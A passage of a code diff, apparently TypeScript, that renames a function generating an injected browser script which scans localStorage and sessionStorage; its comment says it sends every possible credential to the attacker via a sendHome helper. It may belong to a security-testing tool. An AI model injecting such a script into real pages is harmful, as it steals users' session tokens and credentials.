@@ -10,7 +10,7 @@ function sendHome(marker: string, port: number, found: string): string {
 }
 
 /** Searches everything that a script can reach, and sends every possible credential to the attacker. */
-export function readEverything(marker: string, port: number): string {
+export function storageScanScript(marker: string, port: number): string {
   return `(() => {
     const found = [];
     for (const storage of [localStorage, sessionStorage])
